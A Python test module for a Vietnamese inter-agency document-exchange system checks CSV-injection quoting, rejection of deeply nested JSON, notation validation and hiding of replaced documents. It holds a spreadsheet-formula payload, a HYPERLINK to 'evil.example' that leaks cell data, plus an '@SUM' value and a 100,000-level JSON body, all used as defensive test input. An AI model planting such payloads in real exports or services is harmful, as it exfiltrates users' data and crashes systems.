"""Issue 13 §5 and §6: what another agency sends cannot become a spreadsheet formula in our register exports; deep
JSON is bad input, not a crash; a draft whose notation could never be issued is refused at once; a document the
sender replaced is gone from the API exactly as from the web pages.

The exchange is real and in-process: Bộ Nội vụ's sealed packages (a real seal signature, a real edXML package
signature) go through a hub served on a loopback port to Nghệ An's mailbox; the receive function verifies them
against the dev CA, whose OCSP/CRL the node itself answers on the port its certificates name, and registers them.
Bộ Nội vụ is hostile here: its organ name is a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select, update

from docexchange.axis.client import HubClient
from docexchange.axis.edxml import Attachment, EdocMessage, Organ, write_edoc
from docexchange.axis.edxml.model import Business, Replacement
from docexchange.documents.register import OUTGOING_COLUMNS, to_csv
from docexchange.exchange.models import IncomingDocument
from docexchange.exchange.service import ExchangeDeps, receive_pending
from docexchange.models import Agency
from docexchange.signing.engine import SignOptions
from docexchange.signing.validation import ValidationPolicy
from tests.conftest import free_port, login, make_settings, wait_http
from tests.exchange.test_package_trust import seal_pem
from tests.hub._hubutil import ThreadHub
from tests.web.conftest import make_pdf, token_of, web_login

BNV, NGHEAN = "000.00.00.G09", "000.00.00.H41"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1;"Bộ Nội vụ")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Env:
    svc: Any
    app: Any
    password: str
    first: IncomingDocument  # registered, then replaced by ``second``
    second: IncomingDocument
    hub_client: HubClient  # Nghệ An's credentials at the hub


def _package(ns: Any, bnv: Agency, pin: str, base: Path, number: str, subject: str,
             business: Business | None = None) -> Path:
    src, signed = base / f"in-{number}.pdf", base / f"signed-{number}.pdf"
    src.write_bytes(make_pdf(text=f"Quyết định số {number}/QĐ-BNV"))
    assert bnv.seal_key_ref
    ns.sign(src, signed, ns.key(bnv.seal_key_ref, pin), "attachment", SignOptions(text=f"{number}/QĐ-BNV"),
            level="B-T")
    msg = EdocMessage(sender=Organ(organ_id=BNV, organ_name=HOSTILE_NAME), recipients=[Organ(organ_id=NGHEAN)],
                      code_number=number, code_notation="QĐ-BNV", promulgation_date=date.today(), subject=subject,
                      type_code=1, type_name="Quyết định", signer_position="Bộ trưởng",
                      signer_full_name="Nguyễn Văn A", business=business or Business(),
                      attachments=[Attachment(name="qd.pdf", content_type="application/pdf", data=signed,
                                              description="Văn bản chính")])
    package = base / f"package-{number}.edxml"
    with open(package, "wb") as out:
        write_edoc(msg, out, ns.seal_identity(bnv, pin))
    return package


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    from waitress.server import create_server

    from docexchange.app import create_app
    from docexchange.node_signing import NodeSigning
    from docexchange.seed import init_node
    from docexchange.services import Services

    base = tmp_path_factory.mktemp("inputs")
    hub = ThreadHub(base / "hub").start()
    port = free_port()  # the dev CA's OCSP/CRL URLs point here: the node answers them
    svc = Services(make_settings(base / "node", f"http://127.0.0.1:{port}"))
    init_node(svc, demo=True)
    _, bnv_sid, bnv_secret = hub.agency(BNV)
    _, ng_sid, ng_secret = hub.agency(NGHEAN)
    hub.service.register_agency(BNV, f"Cơ quan {BNV}", seal_cert_pem=seal_pem(svc, BNV))  # package signatures check
    with svc.db.transaction() as s:
        s.execute(update(Agency).values(hub_system_id=None, hub_secret=None))
        s.execute(update(Agency).where(Agency.code == NGHEAN).values(hub_system_id=ng_sid, hub_secret=ng_secret))
        s.execute(update(Agency).where(Agency.code == BNV).values(name=HOSTILE_NAME))  # as the directory says
        bnv = s.execute(select(Agency).where(Agency.code == BNV)).scalar_one()
        s.expunge(bnv)
    app = create_app(svc.settings)
    app.testing = True
    server = create_server(app, host="127.0.0.1", port=port, threads=4)
    threading.Thread(target=server.run, daemon=True).start()
    try:
        wait_http(f"http://127.0.0.1:{port}/healthz")
        ns = NodeSigning(svc)
        pin = svc.secrets["demo_pin"]
        sender = HubClient(hub.url, bnv_sid, bnv_secret, retries=0)
        anchors = svc.ca.anchors()
        deps = ExchangeDeps(db=svc.db, blobs=svc.blobs, ledger=svc.ledger, hub_url=hub.url,
                            policy=ValidationPolicy(trust_anchors=anchors, fetch_timeout_s=10,
                                                    fetch_allow=svc.settings.fetch_allow_list()), anchors=anchors,
                            client_factory=lambda a: HubClient(hub.url, a.hub_system_id or "", a.hub_secret or "",
                                                               retries=0))
        sender.send_edoc(_package(ns, bnv, pin, base, "12", "Về việc thử nghiệm sổ văn bản đến"))
        assert receive_pending(deps, "test:inputs")["received"] == 1
        with svc.db.reading() as s:
            first = s.execute(select(IncomingDocument)).scalar_one()
            s.expunge(first)
        assert first.status == "registered", (first.status, first.reason)
        business = Business(doc_type=3, replacements=[Replacement(document_id=first.edxml_document_id,
                                                                  organ_ids=[NGHEAN])])
        sender.send_edoc(_package(ns, bnv, pin, base, "13", "Văn bản thay thế", business))
        assert receive_pending(deps, "test:inputs")["received"] == 1
        with svc.db.reading() as s:
            first = s.execute(select(IncomingDocument).where(IncomingDocument.id == first.id)).scalar_one()
            second = s.execute(select(IncomingDocument).where(IncomingDocument.id != first.id)).scalar_one()
            s.expunge_all()
        assert (first.status, second.status) == ("replaced", "registered"), (first.reason, second.reason)
        yield Env(svc, app, svc.secrets["demo_password"], first, second, HubClient(hub.url, ng_sid, ng_secret))
    finally:
        server.close()
        hub.stop()
        svc.db.dispose()


# --------------------------------------------------------------------------------------- CSV injection
def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-\d+", cell), (cell, row)  # a number


def test_organ_name_received_from_another_agency_is_text_in_the_incoming_register_csv(env: Env) -> None:
    c = env.app.test_client()
    clerk = login(c, "nghean.vanthu", env.password)
    r = c.get("/api/v1/registers/incoming?format=csv", headers=clerk)
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = _cells(r.data)
    authors = [row[2] for row in rows[1:]]
    assert authors == [f"'{HOSTILE_NAME} ({BNV})"] * 2  # both received documents, quoted as text
    _assert_no_formula(rows)
    # the data itself is unchanged: JSON carries the name as received
    items = c.get("/api/v1/registers/incoming", headers=clerk).get_json()["items"]
    assert [i["author"] for i in items] == [f"{HOSTILE_NAME} ({BNV})"] * 2
    # the web page's export is the same file
    web = env.app.test_client()
    web_login(web, "nghean.vanthu", env.password)
    page = web.get("/registers/incoming.csv")
    assert page.status_code == 200 and page.data == r.data


def test_agency_name_from_the_directory_is_text_in_the_outgoing_register_csv(env: Env) -> None:
    """The outgoing register names the recipients as the directory (filled from the hub) calls them."""
    from docexchange.documents.models import Document, OutgoingRegisterEntry

    c = env.app.test_client()
    clerk = login(c, "nghean.vanthu", env.password)
    r = c.post("/api/v1/documents", headers=clerk, data={
        "file": (io.BytesIO(make_pdf()), "d.pdf"), "type_name": "Quyết định", "subject": "Sổ đi",
        "signer": "nghean.lanhdao"}, content_type="multipart/form-data")
    assert r.status_code == 201, r.get_json()
    with env.svc.db.transaction() as s:
        doc = s.execute(select(Document).where(Document.public_id == r.get_json()["id"])).scalar_one()
        s.add(OutgoingRegisterEntry(agency_id=doc.agency_id, document_id=doc.id, year=2026,
                                    number_notation="05/QĐ-UBND",
                                    issued_date="2026-12-01", type_and_subject="Quyết định: thử",
                                    signer="-Nguyễn Văn A", recipients=f"{HOSTILE_NAME} ({BNV})", copies=2,
                                    transfer_date="2026-12-01", notes="@SUM(1+1)"))
    r = c.get("/api/v1/registers/outgoing?format=csv&year=2026", headers=clerk)
    assert r.status_code == 200
    rows = _cells(r.data)
    _assert_no_formula(rows)
    row = rows[1]
    assert (row[3], row[4], row[9]) == ("'-Nguyễn Văn A", f"'{HOSTILE_NAME} ({BNV})", "'@SUM(1+1)")
    assert row[6] == "2"  # numbers untouched


class _Row:
    def __init__(self, **values: object) -> None:
        self.__dict__.update(values)


def test_every_formula_start_is_neutralised_and_nothing_else_changes() -> None:
    from docexchange.documents.register import csv_cell

    for start in FORMULA_STARTS:
        value = f"{start}1+2"
        assert csv_cell(value) == f"'{value}"
        row = _Row(**{name: value for name, _, _ in OUTGOING_COLUMNS})
        assert _cells(to_csv([row]))[1] == [f"'{value}"] * len(OUTGOING_COLUMNS)
    for safe in ("Bộ Nội vụ", "05/QĐ-BNV", " =not first", "'=already", "", "a=b", "1-2"):
        assert csv_cell(safe) == safe
    assert csv_cell(-5) == -5 and csv_cell(None) is None


def _plain_csv(rows: list[_Row]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([title for _, title, _ in OUTGOING_COLUMNS])
    for row in rows:
        writer.writerow([getattr(row, name) for name, _, _ in OUTGOING_COLUMNS])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.one_of(_text, st.integers(-5, 5), st.none()), min_size=10, max_size=10), max_size=5))
def test_csv_is_byte_identical_but_for_the_quote_on_formula_cells(values: list[list[object]]) -> None:
    rows = [_Row(**{name: v for (name, _, _), v in zip(OUTGOING_COLUMNS, vals, strict=True)}) for vals in values]
    out = to_csv(rows)  # type: ignore[arg-type]
    quoted = [_Row(**{name: (f"'{v}" if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v)
                      for (name, _, _), v in zip(OUTGOING_COLUMNS, vals, strict=True)}) for vals in values]
    assert out == _plain_csv(quoted)
    if not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for vals in values for v in vals):
        assert out == _plain_csv(rows)  # nothing to neutralise: exactly the bytes of before
    _assert_no_formula(_cells(out))


# --------------------------------------------------------------------------------------- deep JSON
DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize("method,path", [
    ("POST", "/api/v1/auth/token"),
    ("POST", "/api/v1/inbox/{id}/actions"),
    ("POST", "/api/v1/documents/00000000-0000-0000-0000-000000000000/issue"),
    ("POST", "/api/v1/documents/00000000-0000-0000-0000-000000000000/recall"),
    ("POST", "/api/v1/copies/00000000-0000-0000-0000-000000000000/annul"),
    ("GET", "/api/v1/inbox"),
])
@pytest.mark.parametrize("body", [DEEP, "[" * 100_000, '{"a":' * 65 + "1" + "}" * 65])
def test_deeply_nested_json_is_bad_input_not_a_crash(env: Env, method: str, path: str, body: str) -> None:
    app = env.app
    app.testing = False  # a crash must surface as the 500 a client would get, not as an exception in the test
    try:
        c = app.test_client()
        headers = {**login(c, "nghean.vanthu", env.password), "Content-Type": "application/json"}
        r = c.open(path.format(id=env.second.public_id), method=method, data=body, headers=headers)
    finally:
        app.testing = True
    assert r.status_code == 400, r.get_data(as_text=True)[:300]
    assert r.mimetype == "application/problem+json"
    problem = r.get_json()
    assert problem["code"] == "json_too_deep" and problem["status"] == 400
    assert problem["detail"] == "the JSON body is nested more than 64 levels deep"
    assert problem["detail_vi"] == "nội dung JSON lồng nhau quá 64 cấp"
    with env.svc.db.reading() as s:  # nothing changed
        assert s.get(IncomingDocument, env.second.id).status == "registered"  # type: ignore[union-attr]


def test_deeply_nested_json_to_the_hub_is_bad_json_not_a_crash(env: Env) -> None:
    """The hub parses the signed JSON bodies of its agencies itself: a (leaked) credential sending 100 000 levels
    gets 400 ``bad_json``, not a 500."""
    import hashlib

    import requests

    client = env.hub_client
    body = DEEP.encode()
    headers = client._headers("/getReceivedEdocList", hashlib.sha256(body).hexdigest())
    r = requests.post(client.base_url + "/getReceivedEdocList", data=body, timeout=30,
                      headers=headers | {"Content-Type": "application/json"})
    assert r.status_code == 400, r.text[:300]
    assert r.headers["Content-Type"].startswith("application/problem+json")
    assert r.json()["code"] == "bad_json" and r.json()["detail_vi"]
    assert client.get_received_edoc_list() == []  # the mailbox still answers


def test_json_at_the_limit_and_ordinary_bodies_still_work(env: Env) -> None:
    from docexchange.jsonlimits import MAX_JSON_BYTES, nested_deeper_than

    assert not nested_deeper_than(b"[" * 64 + b"]" * 64) and nested_deeper_than(b"[" * 65 + b"]" * 65)
    assert not nested_deeper_than(b'["' + b"[" * 1000 + b'"]')  # brackets inside strings do not count
    assert not nested_deeper_than(b'["\\"' + b"{" * 1000 + b'"]')
    c = env.app.test_client()
    r = c.post("/api/v1/auth/token", json={"username": "nghean.vanthu", "password": env.password})
    assert r.status_code == 201
    r = c.post("/api/v1/auth/token", json={"username": "nghean.vanthu", "password": env.password,
                                           "extra": [[["shallow"]]]})
    assert r.status_code == 422 and r.get_json()["code"] == "http_422"  # the schema's refusal, not the depth's
    r = c.post("/api/v1/auth/token", data=b'{"username": "' + b"x" * MAX_JSON_BYTES + b'"}',
               headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and r.get_json()["code"] == "json_too_large" and r.get_json()["detail_vi"]


# --------------------------------------------------------------------------------------- draft notation
@pytest.mark.parametrize("suffix,code", [
    ("P TC", "M.Code.CodeNotation"),        # a space inside a group
    ("P/TC", "M.Code.CodeNotation"),        # '/' separates number and notation
    ("=1+1", "M.Code.CodeNotation"),
    ("VP-", "M.Code.CodeNotation"),         # an empty group
    ("VĂN.PHÒNG.BỘ.X", "M.Code.CodeNotation"),  # Vietnamese letters beyond Đ
])
def test_draft_with_a_notation_that_could_not_be_issued_is_refused_at_creation(env: Env, suffix: str,
                                                                               code: str) -> None:
    from docexchange.documents.models import Document
    from docexchange.formats.metadata import MetadataError, canonical_notation

    with pytest.raises(MetadataError) as at_issue:  # what issuing says (the edXML DocumentId is built first)
        canonical_notation(f"QĐ-UBND-{suffix}")
    assert at_issue.value.code == code
    c = env.app.test_client()
    with env.svc.db.reading() as s:
        before = s.execute(select(Document.id)).all()
    r = c.post("/api/v1/documents", headers=login(c, "nghean.vanthu", env.password), data={
        "file": (io.BytesIO(make_pdf()), "d.pdf"), "type_name": "Quyết định", "subject": "Ký hiệu sai",
        "signer": "nghean.lanhdao", "notation_suffix": suffix}, content_type="multipart/form-data")
    assert r.status_code == 400 and r.mimetype == "application/problem+json", r.get_json()
    problem = r.get_json()
    assert problem["code"] == code and problem["field"] == "notation_suffix"
    assert "QĐ-UBND-" in problem["detail"] and "ký hiệu văn bản" in problem["detail_vi"]
    with env.svc.db.reading() as s:
        assert s.execute(select(Document.id)).all() == before  # nothing was created
    # the web form says the same
    web = env.app.test_client()
    web_login(web, "nghean.vanthu", env.password)
    r = web.post("/documents/new", content_type="multipart/form-data", headers={"X-Requested-With": "fetch"},
                 data={"csrf_token": token_of(web, "/documents/new"), "type_name": "Quyết định",
                       "subject": "Ký hiệu sai", "signer": "nghean.lanhdao", "notation_suffix": suffix,
                       "file": (io.BytesIO(make_pdf()), "d.pdf")})
    assert r.status_code == 400 and r.get_json()["code"] == code


def test_notation_rule_is_the_same_at_creation_and_at_issue() -> None:
    from docexchange.documents.service import check_notation
    from docexchange.errors import BadInput

    assert check_notation("QĐ", "UBND", "VP") == "QĐ-UBND-VP"
    assert check_notation("", "BNV", "") == "BNV"
    with pytest.raises(BadInput) as too_long:  # a long agency abbreviation: longer than 30 with the suffix
        check_notation("QĐ", "SOTHONGTINTRUYENTHONG", "PHONGKEHOACH")
    assert too_long.value.code == "R.Code.CodeNotation"


def test_issuing_a_draft_with_a_bad_notation_gives_the_same_code_and_changes_nothing(env: Env) -> None:
    """A draft stored before the check (its suffix written straight into the database), signed by the competent
    person: issuing it is refused with the code creation now gives, and the document stays signed, unnumbered."""
    from docexchange.documents.models import Document

    c = env.app.test_client()
    clerk, signer = login(c, "nghean.vanthu", env.password), login(c, "nghean.lanhdao", env.password)
    r = c.post("/api/v1/documents", headers=clerk, data={
        "file": (io.BytesIO(make_pdf(signer="Lê Hồng Vinh", position="CHỦ TỊCH")), "d.pdf"),
        "type_name": "Quyết định", "subject": "Dự thảo cũ",
        "signer": "nghean.lanhdao", "recipients": BNV}, content_type="multipart/form-data")
    assert r.status_code == 201, r.get_json()
    doc_id = r.get_json()["id"]
    with env.svc.db.transaction() as s:
        s.execute(update(Document).where(Document.public_id == doc_id).values(notation_suffix="P TC"))
    r = c.post(f"/api/v1/documents/{doc_id}/sign", headers=signer, json={"pin": env.svc.secrets["demo_pin"]})
    assert r.status_code == 200, r.get_json()
    r = c.post(f"/api/v1/documents/{doc_id}/issue", headers=clerk, json={"pin": env.svc.secrets["demo_pin"]})
    assert r.status_code == 400 and r.get_json()["code"] == "M.Code.CodeNotation", r.get_json()
    after = c.get(f"/api/v1/documents/{doc_id}", headers=clerk).get_json()
    assert after["status"] == "signed" and after["number"] is None


def test_a_good_notation_suffix_is_still_accepted(env: Env) -> None:
    c = env.app.test_client()
    r = c.post("/api/v1/documents", headers=login(c, "nghean.vanthu", env.password), data={
        "file": (io.BytesIO(make_pdf()), "d.pdf"), "type_name": "Công văn", "subject": "Ký hiệu đúng",
        "signer": "nghean.lanhdao", "notation_suffix": "VP"}, content_type="multipart/form-data")
    assert r.status_code == 201, r.get_json()


# --------------------------------------------------------------------------------------- replaced documents
def test_replaced_document_is_gone_from_the_api_as_from_the_web(env: Env) -> None:
    first, second = env.first.public_id, env.second.public_id
    c = env.app.test_client()
    clerk = login(c, "nghean.vanthu", env.password)
    assert [i["id"] for i in c.get("/api/v1/inbox", headers=clerk).get_json()["items"]] == [second]
    for path in (f"/api/v1/inbox/{first}", f"/api/v1/inbox/{first}/verification"):
        r = c.get(path, headers=clerk)
        assert r.status_code == 404 and r.get_json()["code"] == "not_found", path
        assert "thử nghiệm sổ" not in r.get_data(as_text=True)
    r = c.post(f"/api/v1/inbox/{first}/actions", headers=clerk, json={"action": "assigned", "note": "x"})
    assert r.status_code == 404, r.get_json()
    web = env.app.test_client()
    web_login(web, "nghean.vanthu", env.password)
    assert web.get(f"/inbox/{first}").status_code == 404
    sha = env.first.main_pdf_sha256
    assert web.get(f"/inbox/{first}/files/{sha}").status_code == 404
    r = web.post(f"/inbox/{first}/action", data={"csrf_token": token_of(web, "/inbox"), "action": "assigned",
                                                 "note": "x"})
    assert r.status_code == 404
    with env.svc.db.reading() as s:  # the actions changed nothing
        assert s.get(IncomingDocument, env.first.id).status == "replaced"  # type: ignore[union-attr]
    # the replacement itself is there on both faces
    assert c.get(f"/api/v1/inbox/{second}", headers=clerk).status_code == 200
    assert web.get(f"/inbox/{second}").status_code == 200
